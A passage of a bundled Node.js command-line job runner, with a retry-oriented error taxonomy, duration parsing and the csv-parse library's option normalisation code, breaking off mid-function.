#!/usr/bin/env node
import { createRequire as __WEBPACK_EXTERNAL_createRequire } from "module";
/******/ var __webpack_modules__ = ({

/***/ 149:
/***/ ((module, __unused_webpack___webpack_exports__, __nccwpck_require__) => {

__nccwpck_require__.a(module, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
/* harmony import */ var _main_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(341);
/* harmony import */ var _shared_broken_output_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(396);


// `… | head -1`, or a `| tee log` killed by the same Ctrl-C: a log nobody reads must not end the run.
(0,_shared_broken_output_js__WEBPACK_IMPORTED_MODULE_1__/* .ignoreGoneReaders */ .c)();
// The only place that exits: a module handler's stray timers must not keep a finished run alive.
const code = await (0,_main_js__WEBPACK_IMPORTED_MODULE_0__/* .main */ .i)(process.argv.slice(2), { stdout: process.stdout, stderr: process.stderr, env: process.env, cwd: process.cwd() });
process.exitCode = code;
process.stdout.write("", () => process.stderr.write("", () => process.exit(code)));

__webpack_async_result__();
} catch(e) { __webpack_async_result__(e); } }, 1);

/***/ }),

/***/ 341:
/***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {


// EXPORTS
__nccwpck_require__.d(__webpack_exports__, {
  i: () => (/* binding */ main)
});

// UNUSED EXPORTS: DEFAULT_STATE_DIR

// EXTERNAL MODULE: ./node_modules/commander/index.js
var commander = __nccwpck_require__(909);
;// CONCATENATED MODULE: ./node_modules/commander/esm.mjs


// wrapper to provide named exports for ESM.
const {
  /* program */ "DM": program,
  /* createCommand */ "gu": createCommand,
  /* createArgument */ "er": createArgument,
  /* createOption */ "Ww": createOption,
  /* CommanderError */ "b7": CommanderError,
  /* InvalidArgumentError */ "Di": InvalidArgumentError,
  /* InvalidOptionArgumentError */ "a2": InvalidOptionArgumentError, // deprecated old name
  /* Command */ "uB": Command,
  /* Argument */ "ef": Argument,
  /* Option */ "c$": Option,
  /* Help */ "_V": Help,
} = commander;

;// CONCATENATED MODULE: external "node:os"
const external_node_os_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:os");
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __nccwpck_require__(760);
;// CONCATENATED MODULE: ./node_modules/parse-duration/locale/en.js
const unit = Object.create(null)
const m = 60000, h = m * 60, d = h * 24, y = d * 365.25

unit.year = unit.yr = unit.y = y
unit.month = unit.mo = unit.mth = y / 12
unit.week = unit.wk = unit.w = d * 7
unit.day = unit.d = d
unit.hour = unit.hr = unit.h = h
unit.minute = unit.min = unit.m = m
unit.second = unit.sec = unit.s = 1000
unit.millisecond = unit.millisec = unit.ms = 1
unit.microsecond = unit.microsec =  unit.us = unit.µs = 1e-3
unit.nanosecond = unit.nanosec = unit.ns = 1e-6

unit.group = ','
unit.decimal = '.'
unit.placeholder = ' _'

/* harmony default export */ const en = (unit);

;// CONCATENATED MODULE: ./node_modules/parse-duration/index.js


const durationRE = /((?:\d+(?:\.\d+)?|\.\d+)(?:[eE][-+]?\d+)?)\s*([\p{L}]{0,14})/gu

parse.unit = en

// group/placeholder cleanup regex — rebuilt only when the locale strings change
let groupRE, placeholder = null, group

/**
 * look up a unit name, ignoring case and a trailing plural `s`
 *
 * @param {object} unit
 * @param {string} name
 * @return {number|undefined}
 */
const lookupUnit = (unit, name) => {
  name = String(name).toLowerCase()
  return unit[name] ?? (name.endsWith('s') ? unit[name.slice(0, -1)] : undefined)
}

/**
 * convert `str` to ms
 *
 * @param {string} str
 * @param {string} format
 * @return {number|null}
 */
function parse(str = '', format = 'ms') {
  let result = null, prevUnits, unit = parse.unit

  if (unit.placeholder !== placeholder || unit.group !== group)
    groupRE = new RegExp(`(\\d)[${(placeholder = unit.placeholder) ?? ''}${(group = unit.group) ?? ''}](\\d)`, 'g')

  str = String(str)
  let s = str.replace(groupRE, '$1$2') // clean up group separators / placeholders
  if (unit.decimal !== '.') s = s.replaceAll(unit.decimal, '.') // normalize decimal separator

  durationRE.lastIndex = 0
  for (let m; (m = durationRE.exec(s));) {
    let units = m[2]
    // if no units, find next smallest units or fall back to format value
    // eg. 1h30 -> 1h30m
    if (!units) {
      if (prevUnits) {
        for (const u in unit) if (unit[u] < prevUnits) { units = u; break }
      }
      else units = format
    }

    prevUnits = units = lookupUnit(unit, units)

    if (typeof units == 'number') result = (result || 0) + m[1] * units
  }

  return result && ((result / (lookupUnit(unit, format) || 1)) * (str.trimStart()[0] === '-' ? -1 : 1))
}

;// CONCATENATED MODULE: ./src/core/platform/errors.ts
/**
 * The engine's error taxonomy (STYLE.md): configuration errors stop before any work
 * (exit 2); item errors are classified once into transient / permanent / timeout;
 * state errors mean the checkpoint cannot be trusted.
 */
/** Bad usage, configuration or input, found before any item was processed. Exit status 2. */
class ConfigError extends Error {
    name = "ConfigError";
}
/** Restored or on-disk state that cannot be trusted (corrupt, wrong version, unexpected files). */
class StateError extends Error {
    name = "StateError";
}
/**
 * The state folder could not be written (a full disk, a read-only or vanished folder).
 * Exit status 5: the run stopped, the lock is released, and what is on disk is consistent
 * (whole journal lines); finished items not yet written run again next time.
 */
class StateWriteError extends Error {
    name = "StateWriteError";
    constructor(stateDir, cause) {
        const e = cause;
        const text = errorMessage(cause);
        const what = e?.code && !text.includes(e.code) ? `${e.code}: ${text}` : text;
        const fix = e?.code === "ENOSPC" || e?.code === "EDQUOT" ? "free space on its disk" : "make it writable";
        super(`cannot write the state folder ${stateDir} (${what}). The run stopped and the state on disk is consistent; ` +
            `${fix}, then run again (items finished since the last write run again, which their idempotency keys make safe)`, { cause });
    }
}
/**
 * SIGINT or SIGTERM arrived before any item started (while the items were read and
 * checked): nothing was run and the state is as it was. Exit 130 / 143 like any stop.
 */
class StoppedBeforeStartError extends Error {
    signal;
    name = "StoppedBeforeStartError";
    constructor(signal) {
        super(`${signal} received while the items were read: nothing was run, and the state is as it was`);
        this.signal = signal;
    }
    get exitCode() {
        return this.signal === "SIGTERM" ? 143 : 130;
    }
}
/** Thrown by a module handler (or given as `ctx.TransientError`) for an error worth retrying. */
class TransientError extends Error {
    name = "TransientError";
    transient = true;
    /** Wait at least this long before the next attempt (like an HTTP Retry-After). */
    retryAfterMs;
    constructor(message, options) {
        super(message, options?.cause === undefined ? undefined : { cause: options.cause });
        this.retryAfterMs = options?.retryAfterMs;
    }
}
/** Thrown by a module handler for an error that retrying cannot fix (bad data). */
class PermanentError extends Error {
    name = "PermanentError";
    permanent = true;
}
/** Error codes of Node's net/dns/undici layers that mean "the network hiccupped": retry. */
const NETWORK_ERROR_CODES = new Set([
    "ECONNRESET",
    "ECONNREFUSED",
    "ECONNABORTED",
    "ETIMEDOUT",
    "EPIPE",
    "EAI_AGAIN",
    "ENETUNREACH",
    "ENETDOWN",
    "EHOSTUNREACH",
    "EHOSTDOWN",
    "ENOTCONN",
    "UND_ERR_CONNECT_TIMEOUT",
    "UND_ERR_HEADERS_TIMEOUT",
    "UND_ERR_BODY_TIMEOUT",
    "UND_ERR_SOCKET",
    "UND_ERR_CLOSED",
]);
const MAX_MESSAGE_CHARS = 2000;
/**
 * Classifies whatever a module handler threw. Explicit marks win (`transient`/`permanent`
 * properties, as p-retry's AbortError and BullMQ's UnrecoverableError do by class); then
 * HTTP status (408, 429 and 5xx are transient; other 4xx permanent); then network error
 * codes; `fetch`'s "fetch failed" TypeError wraps a network error in `cause`.
 * Anything else is permanent: retrying a bug or bad data only burns the budget.
 */
function classifyError(error, nowMs) {
    const message = errorMessage(error);
    const e = (typeof error === "object" && error !== null ? error : {});
    const retryAfterMs = retryAfterFrom(e, nowMs);
    if (e.permanent === true || e.name === "PermanentError")
        return { kind: "permanent", message };
    if (e.transient === true || e.retryable === true || e.name === "TransientError") {
        return { kind: "transient", message, retryAfterMs, throttled: retryAfterMs !== undefined };
    }
    if (e.name === "TimeoutError")
        return { kind: "timeout", message };
    const status = httpStatusOf(e);
    if (status !== undefined) {
        const transient = status === 408 || status === 429 || status >= 500;
        if (!transient)
            return { kind: "permanent", message };
        return { kind: "transient", message, retryAfterMs, throttled: status === 429 || retryAfterMs !== undefined };
    }
    if (isNetworkError(e))
        return { kind: "transient", message, retryAfterMs };
    return { kind: "permanent", message };
}
function isNetworkError(e) {
    if (typeof e.code === "string" && NETWORK_ERROR_CODES.has(e.code))
        return true;
    const cause = e.cause;
    if (cause && typeof cause === "object") {
        if (typeof cause.code === "string" && NETWORK_ERROR_CODES.has(cause.code))
            return true;
    }
    // fetch() rejects with TypeError("fetch failed") for connection-level failures.
    return e.name === "TypeError" && e.message === "fetch failed";
}
function httpStatusOf(e) {
    const response = e.response;
    for (const v of [e.status, e.statusCode, response?.status, response?.statusCode]) {
        if (typeof v === "number" && v >= 100 && v <= 599)
            return v;
    }
    return undefined;
}
function retryAfterFrom(e, nowMs) {
    if (typeof e.retryAfterMs === "number" && e.retryAfterMs >= 0)
        return e.retryAfterMs;
    const response = e.response;
    const headers = (response?.headers ?? e.headers);
    let value;
    if (headers && typeof headers.get === "function") {
        value = headers.get("retry-after");
    }
    else if (headers && typeof headers === "object") {
        const h = headers;
        value = h["retry-after"] ?? h["Retry-After"];
    }
    return parseRetryAfter(value, nowMs);
}
/** Retry-After is either delta-seconds or an HTTP date (RFC 9110 §10.2.3). */
function parseRetryAfter(value, nowMs) {
    if (typeof value === "number" && value >= 0)
        return value * 1000;
    if (typeof value !== "string" || value.trim() === "")
        return undefined;
    const text = value.trim();
    if (/^\d+$/.test(text))
        return Number(text) * 1000;
    const dateMs = Date.parse(text);
    if (Number.isNaN(dateMs))
        return undefined;
    return Math.max(0, dateMs - nowMs);
}
function errorMessage(error) {
    let text;
    if (error instanceof Error)
        text = error.message || error.name;
    else if (typeof error === "string")
        text = error;
    else {
        try {
            text = JSON.stringify(error) ?? String(error);
        }
        catch {
            text = String(error);
        }
    }
    return text.length > MAX_MESSAGE_CHARS ? text.slice(0, MAX_MESSAGE_CHARS) + "…" : text;
}

;// CONCATENATED MODULE: ./src/core/config/duration.ts


/**
 * Reads a duration like `500ms`, `90s`, `5m`, `1h30m`. A bare number is rejected rather
 * than guessed at (seconds? milliseconds?), so `--time-budget 300` fails with a hint.
 * `what` names the flag or input for the error message.
 */
function parseDurationMs(text, what) {
    const trimmed = text.trim();
    if (/^\d+(\.\d+)?$/.test(trimmed)) {
        throw new ConfigError(`${what}: '${text}' has no unit; write it like 500ms, 90s, 5m or 1h30m`);
    }
    const ms = /^(\d+(\.\d+)?\s*(ms|s|m|h|d)\s*)+$/i.test(trimmed) ? parse(trimmed, "ms") : null;
    if (ms === null || ms === undefined || !Number.isFinite(ms) || ms < 0) {
        throw new ConfigError(`${what}: '${text}' is not a duration; write it like 500ms, 90s, 5m or 1h30m`);
    }
    return Math.round(ms);
}
/** Renders milliseconds for people: 950ms, 12.3s, 4m05s, 2h07m. */
function formatDurationMs(ms) {
    if (!Number.isFinite(ms))
        return "?";
    if (ms < 1000)
        return `${Math.round(ms)}ms`;
    if (ms < 60_000)
        return `${(ms / 1000).toFixed(1)}s`;
    const totalSeconds = Math.round(ms / 1000);
    const hours = Math.floor(totalSeconds / 3600);
    const minutes = Math.floor((totalSeconds % 3600) / 60);
    const seconds = totalSeconds % 60;
    if (hours > 0)
        return `${hours}h${String(minutes).padStart(2, "0")}m`;
    return `${minutes}m${String(seconds).padStart(2, "0")}s`;
}

;// CONCATENATED MODULE: external "node:stream"
const external_node_stream_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:stream");
;// CONCATENATED MODULE: external "stream"
const external_stream_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("stream");
;// CONCATENATED MODULE: ./node_modules/csv-parse/lib/utils/is_object.js
const is_object = function (obj) {
  return typeof obj === "object" && obj !== null && !Array.isArray(obj);
};



;// CONCATENATED MODULE: ./node_modules/csv-parse/lib/api/CsvError.js
class CsvError extends Error {
  constructor(code, message, options, ...contexts) {
    if (Array.isArray(message)) message = message.join(" ").trim();
    super(message);
    if (Error.captureStackTrace !== undefined) {
      Error.captureStackTrace(this, CsvError);
    }
    this.code = code;
    for (const context of contexts) {
      for (const key in context) {
        const value = context[key];
        this[key] = Buffer.isBuffer(value)
          ? value.toString(options.encoding)
          : value == null
            ? value
            : JSON.parse(JSON.stringify(value));
      }
    }
  }
}



;// CONCATENATED MODULE: ./node_modules/csv-parse/lib/api/normalize_columns_array.js



const normalize_columns_array = function (columns) {
  const normalizedColumns = [];
  for (let i = 0, l = columns.length; i < l; i++) {
    const column = columns[i];
    if (column === undefined || column === null || column === false) {
      normalizedColumns[i] = { disabled: true };
    } else if (typeof column === "string" || typeof column === "number") {
      normalizedColumns[i] = { name: `${column}` };
    } else if (is_object(column)) {
      if (typeof column.name !== "string") {
        throw new CsvError("CSV_OPTION_COLUMNS_MISSING_NAME", [
          "Option columns missing name:",
          `property "name" is required at position ${i}`,
          "when column is an object literal",
        ]);
      }
      normalizedColumns[i] = column;
    } else {
      throw new CsvError("CSV_INVALID_COLUMN_DEFINITION", [
        "Invalid column definition:",
        "expect a string or a literal object,",
        `got ${JSON.stringify(column)} at position ${i}`,
      ]);
    }
  }
  return normalizedColumns;
};



;// CONCATENATED MODULE: ./node_modules/csv-parse/lib/utils/ResizeableBuffer.js
class ResizeableBuffer {
  constructor(size = 100) {
    this.size = size;
    this.length = 0;
    this.buf = Buffer.allocUnsafe(size);
  }
  prepend(val) {
    if (Buffer.isBuffer(val)) {
      const length = this.length + val.length;
      if (length >= this.size) {
        this.resize();
        if (length >= this.size) {
          throw Error("INVALID_BUFFER_STATE");
        }
      }
      const buf = this.buf;
      this.buf = Buffer.allocUnsafe(this.size);
      val.copy(this.buf, 0);
      buf.copy(this.buf, val.length);
      this.length += val.length;
    } else {
      const length = this.length++;
      if (length === this.size) {
        this.resize();
      }
      const buf = this.clone();
      this.buf[0] = val;
      buf.copy(this.buf, 1, 0, length);
    }
  }
  append(val) {
    const length = this.length++;
    if (length === this.size) {
      this.resize();
    }
    this.buf[length] = val;
  }
  clone() {
    return Buffer.from(this.buf.slice(0, this.length));
  }
  resize() {
    const length = this.length;
    this.size = this.size * 2;
    const buf = Buffer.allocUnsafe(this.size);
    this.buf.copy(buf, 0, 0, length);
    this.buf = buf;
  }
  toString(encoding) {
    if (encoding) {
      return this.buf.slice(0, this.length).toString(encoding);
    } else {
      return Uint8Array.prototype.slice.call(this.buf.slice(0, this.length));
    }
  }
  toJSON() {
    return this.toString("utf8");
  }
  reset() {
    this.length = 0;
  }
}

/* harmony default export */ const utils_ResizeableBuffer = (ResizeableBuffer);

;// CONCATENATED MODULE: ./node_modules/csv-parse/lib/api/init_state.js


// white space characters
// https://en.wikipedia.org/wiki/Whitespace_character
// https://developer.mozilla.org/en-US/docs/Web/JavaScript/Guide/Regular_Expressions/Character_Classes#Types
// \f\n\r\t\v\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000\ufeff
const np = 12;
const cr = 13; // `\r`, carriage return, 0x0D in hexadécimal, 13 in decimal
const nl = 10; // `\n`, newline, 0x0A in hexadecimal, 10 in decimal
const space = 32;
const tab = 9;

const init_state = function (options) {
  return {
    bomSkipped: false,
    bufBytesStart: 0,
    castField: options.cast_function,
    commenting: false,
    // Current error encountered by a record
    error: undefined,
    enabled: options.from_line === 1,
    escaping: false,
    escapeIsQuote:
      Buffer.isBuffer(options.escape) &&
      Buffer.isBuffer(options.quote) &&
      Buffer.compare(options.escape, options.quote) === 0,
    // columns can be `false`, `true`, `Array`
    expectedRecordLength: Array.isArray(options.columns)
      ? options.columns.length
      : undefined,
    field: new utils_ResizeableBuffer(20),
    firstLineToHeaders: options.cast_first_line_to_header,
    needMoreDataSize: Math.max(
      // Skip if the remaining buffer smaller than comment
      options.comment !== null ? options.comment.length : 0,
      // Skip if the remaining buffer can be delimiter
      ...options.delimiter.map((delimiter) => delimiter.length),
      // Skip if the remaining buffer can be escape sequence
      options.quote !== null ? options.quote.length : 0,
    ),
    previousBuf: undefined,
    quoting: false,
    stop: false,
    rawBuffer: new utils_ResizeableBuffer(100),
    record: [],
    recordHasError: false,
    record_length: 0,
    recordDelimiterMaxLength:
      options.record_delimiter.length === 0
        ? 0
        : Math.max(...options.record_delimiter.map((v) => v.length)),
    trimChars: [
      Buffer.from(" ", options.encoding)[0],
      Buffer.from("\t", options.encoding)[0],
    ],
    wasQuoting: false,
    wasRowDelimiter: false,
    timchars: [
      Buffer.from(Buffer.from([cr], "utf8").toString(), options.encoding),
      Buffer.from(Buffer.from([nl], "utf8").toString(), options.encoding),
      Buffer.from(Buffer.from([np], "utf8").toString(), options.encoding),
      Buffer.from(Buffer.from([space], "utf8").toString(), options.encoding),
      Buffer.from(Buffer.from([tab], "utf8").toString(), options.encoding),
    ],
  };
};



;// CONCATENATED MODULE: ./node_modules/csv-parse/lib/utils/underscore.js
const underscore = function (str) {
  return str.replace(/([A-Z])/g, function (_, match) {
    return "_" + match.toLowerCase();
  });
};



;// CONCATENATED MODULE: ./node_modules/csv-parse/lib/api/normalize_options.js




const normalize_options = function (opts) {
  const options = {};
  // Merge with user options
  for (const opt in opts) {
    options[underscore(opt)] = opts[opt];
  }
  // Normalize option `encoding`
  // Note: defined first because other options depends on it
  // to convert chars/strings into buffers.
  if (options.encoding === undefined || options.encoding === true) {
    options.encoding = "utf8";
  } else if (options.encoding === null || options.encoding === false) {
    options.encoding = null;
  } else if (
    typeof options.encoding !== "string" &&
    options.encoding !== null
  ) {
    throw new CsvError(
      "CSV_INVALID_OPTION_ENCODING",
      [
        "Invalid option encoding:",
        "encoding must be a string or null to return a buffer,",
        `got ${JSON.stringify(options.encoding)}`,
      ],
      options,
    );
  }
  // Normalize option `bom`
  if (
    options.bom === undefined ||
    options.bom === null ||
    options.bom === false
  ) {
    options.bom = false;
  } else if (options.bom !== true) {
    throw new CsvError(
      "CSV_INVALID_OPTION_BOM",
      [
        "Invalid option bom:",
        "bom must be true,",
        `got ${JSON.stringify(options.bom)}`,
      ],
      options,
    );
  }
  // Normalize option `cast`
  options.cast_function = null;
  if (
    options.cast === undefined ||
    options.cast === null ||
    options.cast === false ||
    options.cast === ""
  ) {
    options.cast = undefined;
  } else if (typeof options.cast === "function") {
    options.cast_function = options.cast;
    options.cast = true;
  } else if (options.cast !== true) {
    throw new CsvError(
      "CSV_INVALID_OPTION_CAST",
      [
        "Invalid option cast:",
        "cast must be true or a function,",
        `got ${JSON.stringify(options.cast)}`,
      ],
      options,
    );
  }
  // Normalize option `cast_date`
  if (
    options.cast_date === undefined ||
    options.cast_date === null ||
    options.cast_date === false ||
    options.cast_date === ""
  ) {
    options.cast_date = false;
  } else if (options.cast_date === true) {
    options.cast_date = function (value) {
      const date = Date.parse(value);
      return !isNaN(date) ? new Date(date) : value;
    };
  } else if (typeof options.cast_date !== "function") {
    throw new CsvError(
      "CSV_INVALID_OPTION_CAST_DATE",
      [
        "Invalid option cast_date:",
        "cast_date must be true or a function,",
        `got ${JSON.stringify(options.cast_date)}`,
      ],
      options,
    );
  }
  // Normalize option `columns`
  options.cast_first_line_to_header = undefined;
  if (options.columns === true) {
    // Fields in the first line are converted as-is to columns
    options.cast_first_line_to_header = undefined;
  } else if (typeof options.columns === "function") {
    options.cast_first_line_to_header = options.columns;
    options.columns = true;
  } else if (Array.isArray(options.columns)) {
    options.columns = normalize_columns_array(options.columns);
  } else if (
    options.columns === undefined ||
    options.columns === null ||
    options.columns === false
  ) {
    options.columns = false;
  } else {
    throw new CsvError(
      "CSV_INVALID_OPTION_COLUMNS",
      [
        "Invalid option columns:",
        "expect an array, a function or true,",
        `got ${JSON.stringify(options.columns)}`,
      ],
      options,
    );
  }
  // Normalize option `group_columns_by_name`
  if (
    options.group_columns_by_name === undefined ||
    options.group_columns_by_name === null ||
    options.group_columns_by_name === false
  ) {
    options.group_columns_by_name = false;
  } else if (options.group_columns_by_name !== true) {
    throw new CsvError(
      "CSV_INVALID_OPTION_GROUP_COLUMNS_BY_NAME",
      [
        "Invalid option group_columns_by_name:",
        "expect an boolean,",
        `got ${JSON.stringify(options.group_columns_by_name)}`,
      ],
      options,
    );
  } else if (options.columns === false) {
    throw new CsvError(
      "CSV_INVALID_OPTION_GROUP_COLUMNS_BY_NAME",
      [
        "Invalid option group_columns_by_name:",
        "the `columns` mode must be activated.",
      ],
      options,
    );
  }
  // Normalize option `comment`
  if (
    options.comment === undefined ||
    options.comment === null ||
    options.comment === false ||
    options.comment === ""
  ) {
    options.comment = null;
  } else {
    if (typeof options.comment === "string") {
      options.comment = Buffer.from(options.comment, options.encoding);
    }
    if (!Buffer.isBuffer(options.comment)) {
      throw new CsvError(
        "CSV_INVALID_OPTION_COMMENT",
        [
          "Invalid option comment:",
          "comment must be a buffer or a string,",
          `got ${JSON.stringify(options.comment)}`,
        ],
        options,
      );
    }
  }
  // Normalize option `comment_no_infix`
  if (
    options.comment_no_infix === undefined ||
    options.comment_no_infix === null ||
    options.comment_no_infix === false
  ) {
    options.comment_no_infix = false;
  } else if (options.comment_no_infix !== true) {
    throw new CsvError(
      "CSV_INVALID_OPTION_COMMENT",
      [
        "Invalid option comment_no_infix:",
        "value must be a boolean,",
        `got ${JSON.stringify(options.comment_no_infix)}`,
      ],
      options,
    );
  }
  // Normalize option `delimiter`
  const delimiter_json = JSON.stringify(options.delimiter);
  if (!Array.isArray(options.delimiter))
    options.delimiter = [options.delimiter];
  if (options.delimiter.length === 0) {
    throw new CsvError(
      "CSV_INVALID_OPTION_DELIMITER",
      [
        "Invalid option delimiter:",
        "delimiter must be a non empty string or buffer or array of string|buffer,",
        `got ${delimiter_json}`,
      ],
      options,
    );
  }
  options.delimiter = options.delimiter.map(function (delimiter) {
    if (delimiter === undefined || delimiter === null || delimiter === false) {
      return Buffer.from(",", options.encoding);
    }
    if (typeof delimiter === "string") {
      delimiter = Buffer.from(delimiter, options.encoding);
    }
    if (!Buffer.isBuffer(delimiter) || delimiter.length === 0) {
      throw new CsvError(
        "CSV_INVALID_OPTION_DELIMITER",
        [
          "Invalid option delimiter:",
          "delimiter must be a non empty string or buffer or array of string|buffer,",
          `got ${delimiter_json}`,
        ],
        options,
      );
    }
    return delimiter;
  });
  // Normalize option `escape`
  if (options.escape === undefined || options.escape === true) {
    options.escape = Buffer.from('"', options.encoding);
  } else if (typeof options.escape === "string") {
    options.escape = Buffer.from(options.escape, options.encoding);
  } else if (options.escape === null || options.escape === false) {
    options.escape = null;
  }
  if (options.escape !== null) {
    if (!Buffer.isBuffer(options.escape)) {
      throw new Error(
        `Invalid Option: escape must be a buffer, a string or a boolean, got ${JSON.stringify(options.escape)}`,
      );
    }
  }
  // Normalize option `from`
  if (options.from === undefined || options.from === null) {
    options.from = 1;
  } else {
    if (typeof options.from === "string" && /\d+/.test(options.from)) {
      options.from = parseInt(options.from);
    }
    if (Number.isInteger(options.from)) {
      if (options.from < 0) {
        throw new Error(
          `Invalid Option: from must be a positive integer, got ${JSON.stringify(opts.from)}`,
        );
      }
    } else {
      throw new Error(
        `Invalid Option: from must be an integer, got ${JSON.stringify(options.from)}`,
      );
    }
  }
  // Normalize option `from_line`
  if (options.from_line === undefined || options.from_line === null) {
    options.from_line = 1;
  } else {
    if (
      typeof options.from_line === "string" &&
      /\d+/.test(options.from_line)
    ) {
      options.from_line = parseInt(options.from_line);
    }
    if (Number.isInteger(options.from_line)) {
      if (options.from_line <= 0) {
        throw new Error(
          `Invalid Option: from_line must be a positive integer greater than 0, got ${JSON.stringify(opts.from_line)}`,
        );
      }
    } else {
      throw new Error(
        `Invalid Option: from_line must be an integer, got ${JSON.stringify(opts.from_line)}`,
      );
    }
  }
  // Normalize options `ignore_last_delimiters`
  if (
    options.ignore_last_delimiters === undefined ||
    options.ignore_last_delimiters === null
  ) {
    options.ignore_last_delimiters = false;
  } else if (typeof options.ignore_last_delimiters === "number") {
    options.ignore_last_delimiters = Math.floor(options.ignore_last_delimiters);
    if (options.ignore_last_delimiters === 0) {
      options.ignore_last_delimiters = false;
    }
  } else if (typeof options.ignore_last_delimiters !== "boolean") {
    throw new CsvError(
      "CSV_INVALID_OPTION_IGNORE_LAST_DELIMITERS",
      [
        "Invalid option `ignore_last_delimiters`:",
        "the value must be a boolean value or an integer,",
        `got ${JSON.stringify(options.ignore_last_delimiters)}`,
      ],
      options,
    );
  }
  if (options.ignore_last_delimiters === true && options.columns === false) {
    throw new CsvError(
      "CSV_IGNORE_LAST_DELIMITERS_REQUIRES_COLUMNS",
      [
        "The option `ignore_last_delimiters`",
        "requires the activation of the `columns` option",
      ],
      options,
    );
  }
  // Normalize option `info`
  if (
    options.info === undefined ||
    options.info === null ||
    options.info === false
  ) {
    options.info = false;
  } else if (options.info !== true) {
    throw new Error(
      `Invalid Option: info must be true, got ${JSON.stringify(options.info)}`,
    );
  }
  // Normalize option `max_record_size`
  if (
    options.max_record_size === undefined ||
    options.max_record_size === null ||
    options.max_record_size === false
  ) {
    options.max_record_size = 0;
  } else if (
    Number.isInteger(options.max_record_size) &&
    options.max_record_size >= 0
  ) {
    // Great, nothing to do
  } else if (
    typeof options.max_record_size === "string" &&
    /\d+/.test(options.max_record_size)
  ) {
    options.max_record_size = parseInt(options.max_record_size);
  } else {
    throw new Error(
      `Invalid Option: max_record_size must be a positive integer, got ${JSON.stringify(options.max_record_size)}`,
    );
  }
  // Normalize option `objname`
  if (
    options.objname === undefined ||
    options.objname === null ||
    options.objname === false
  ) {
    options.objname = undefined;
  } else if (Buffer.isBuffer(options.objname)) {
    if (options.objname.length === 0) {
      throw new Error(`Invalid Option: objname must be a non empty buffer`);
    }
    if (options.encoding === null) {
      // Don't call `toString`, leave objname as a buffer
    } else {
      options.objname = options.objname.toString(options.encoding);
    }
  } else if (typeof options.objname === "string") {
    if (options.objname.length === 0) {
      throw new Error(`Invalid Option: objname must be a non empty string`);
    }
    // Great, nothing to do
  } else if (typeof options.objname === "number") {
    // if(options.objname.length === 0){
    //   throw new Error(`Invalid Option: objname must be a non empty string`);
    // }
    // Great, nothing to do
  } else {
    throw new Error(
      `Invalid Option: objname must be a string or a buffer, got ${options.objname}`,
    );
  }
  if (options.objname !== undefined) {
    if (typeof options.objname === "number") {
      if (options.columns !== false) {
        throw Error(
          "Invalid Option: objname index cannot be combined with columns or be defined as a field",
        );
      }
    } else {
      // A string or a buffer
      if (options.columns === false) {
        throw Error(
          "Invalid Option: objname field must be combined with columns or be defined as an index",
        );
      }
    }
  }
  // Normalize option `on_record`
  if (options.on_record === undefined || options.on_record === null) {
    options.on_record = undefined;
  } else if (typeof options.on_record !== "function") {
    throw new CsvError(
      "CSV_INVALID_OPTION_ON_RECORD",
      [
        "Invalid option `on_record`:",
        "expect a function,",
        `got ${JSON.stringify(options.on_record)}`,
      ],
      options,
    );
  }
  // Normalize option `on_skip`
  // options.on_skip ??= (err, chunk) => {
  //   this.emit('skip', err, chunk);
  // };
  if (
    options.on_skip !== undefined &&
    options.on_skip !== null &&
    typeof options.on_skip !== "function"
  ) {
    throw new Error(
      `Invalid Option: on_skip must be a function, got ${JSON.stringify(options.on_skip)}`,
    );
  }
  // Normalize option `quote`
  if (
    options.quote === null ||
    options.quote === false ||
    options.quote === ""
  ) {
    options.quote = null;
  } else {
    if (options.quote === undefined || options.quote === true) {
      options.quote = Buffer.from('"', options.encoding);
    } else if (typeof options.quote === "string") {
      options.quote = Buffer.from(options.quote, options.encoding);
    }
    if (!Buffer.isBuffer(options.quote)) {
      throw new Error(
        `Invalid Option: quote must be a buffer or a string, got ${JSON.stringify(options.quote)}`,
      );
    }
  }
  // Normalize option `raw`
  if (
    options.raw === undefined ||
    options.raw === null ||
    options.raw === false
  ) {
    options.raw = false;
  } else if (options.raw !== true) {
    throw new Error(
      `Invalid Option: raw must be true, got ${JSON.stringify(options.raw)}`,
    );
  }
  // Normalize option `record_delimiter`
  if (options.record_delimiter === undefined) {
    options.record_delimiter = [];
  } else if (
    typeof options.record_delimiter === "string" ||
    Buffer.isBuffer(options.record_delimiter)
  ) {
    if (options.record_delimiter.length === 0) {
      throw new CsvError(
        "CSV_INVALID_OPTION_RECORD_DELIMITER",
        [
          "Invalid option `record_delimiter`:",
          "value must be a non empty string or buffer,",
          `got ${JSON.stringify(options.record_delimiter)}`,
        ],
        options,
      );
    }
    options.record_delimiter = [options.record_delimiter];
  } else if (!Array.isArray(options.record_delimiter)) {
    throw new CsvError(
      "CSV_INVALID_OPTION_RECORD_DELIMITER",
      [
        "Invalid option `record_delimiter`:",
        "value must be a string, a buffer or array of string|buffer,",
        `got ${JSON.stringify(options.record_delimiter)}`,
      ],
      options,
    );
  }
  options.record_delimiter = options.record_delimiter.map(function (rd, i) {
    if (typeof rd !== "string" && !Buffer.isBuffer(rd)) {
      throw new CsvError(
        "CSV_INVALID_OPTION_RECORD_DELIMITER",
        [
          "Invalid option `record_delimiter`:",
          "value must be a string, a buffer or array of string|buffer",
          `at index ${i},`,
          `got ${JSON.stringify(rd)}`,
        ],
        options,
      );
    } else if (rd.length === 0) {
      throw new CsvError(
        "CSV_INVALID_OPTION_RECORD_DELIMITER",
        [
          "Invalid option `record_delimiter`:",
          "value must be a non empty string or buffer",
          `at index ${i},`,
          `got ${JSON.stringify(rd)}`,
        ],
        options,
      );
    }
    if (typeof rd === "string") {
      rd = Buffer.from(rd, options.encoding);
    }
    return rd;
  });
  // Normalize option `relax_column_count`
  if (typeof options.relax_column_count === "boolean") {
    // Great, nothing to do
  } else if (
    options.relax_column_count === undefined ||
    options.relax_column_count === null
  ) {
    options.relax_column_count = false;
  } else {
    throw new Error(
      `Invalid Option: relax_column_count must be a boolean, got ${JSON.stringify(options.relax_column_count)}`,
    );
  }
  if (typeof options.relax_column_count_less === "boolean") {
